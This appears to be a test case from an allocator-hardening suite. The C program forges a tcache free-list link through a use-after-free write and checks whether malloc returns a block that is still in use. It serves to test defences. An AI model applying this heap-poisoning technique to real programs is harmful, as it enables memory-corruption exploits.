/* poison_overlap — the same forged link as tcache_poisoning, aimed at another live heap block
 * of the same class: a target that passes "is it inside the heap, is it aligned" checks.
 * Goal: malloc hands out the victim while the program still uses it (overlapping allocation).
 * SILENT: malloc returns the live victim within 4096 allocations. */
#include "attack.h"

int main(void) {
  unsigned char *victim = take(ATTACK_SIZE);
  void *first = opaque(malloc(ATTACK_SIZE)), **p = opaque(malloc(ATTACK_SIZE));
  free(first); /* a list that counts its blocks (glibc's tcache) follows the forged link only if p is not last */
  free(p);
  *(void *volatile *)opaque(p) = victim;
  void *r = hunt_for(ATTACK_SIZE, HUNT_MAX, victim, ATTACK_SIZE);
  if (r) silent("malloc returned %p, inside the live victim %p", r, (void *)victim);
  check_heap(ATTACK_SIZE, "after aiming a free link at a live block");
  intact();
}
